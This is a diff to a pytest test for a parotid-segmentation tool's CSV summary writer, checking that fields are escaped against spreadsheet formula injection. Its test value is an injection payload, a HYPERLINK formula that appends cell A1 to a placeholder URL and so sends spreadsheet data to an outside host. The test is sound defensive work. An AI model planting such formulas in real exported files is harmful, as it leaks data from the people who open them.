@@ -6,6 +6,7 @@ from pathlib import Path
 import pytest
 
 from parotid_seg.files import harmless
+from parotid_seg.flags import Flag, FlagCode
 from parotid_seg.runtime.journal import Entry
 from parotid_seg.runtime.summary import write_summary
 
@@ -21,12 +22,23 @@ def read(path: Path) -> list[dict[str, str]]:
 def test_no_text_is_a_formula(tmp_path, first):
     evil = f'{first}HYPERLINK("http://x?"&A1,"see")'
     sizes = {"parotid_left": 20.0, evil: 3.0}
-    entry = Entry(evil, evil, "", "done", evil, evil, flags=(evil,), volumes_ml=sizes, seconds={"read": 1e-05})
+    entry = Entry(
+        evil,
+        evil,
+        "",
+        "done",
+        evil,
+        evil,
+        flags=(Flag(FlagCode.OLD_VERSION, detail=evil),),
+        volumes_ml=sizes,
+        seconds={"read": 1e-05},
+    )
     write_summary([entry], ("background", "parotid_left", evil), tmp_path / "summary.csv")
     (row,) = read(tmp_path / "summary.csv")
-    assert {name: row[name] for name in ("case", "flags", "reason", "mask", "source")} == dict.fromkeys(
-        ("case", "flags", "reason", "mask", "source"), f"'{evil}"
+    assert {name: row[name] for name in ("case", "reason", "mask", "source")} == dict.fromkeys(
+        ("case", "reason", "mask", "source"), f"'{evil}"
     )
+    assert row["flags"].startswith(f"'{evil}")
     assert (row["left_ml"], row[f"'{evil}_ml"], row["read_s"]) == ("20.00", "3.00", "1e-05")
     assert not any(text.startswith(first) for cell in row.items() for text in cell)
 
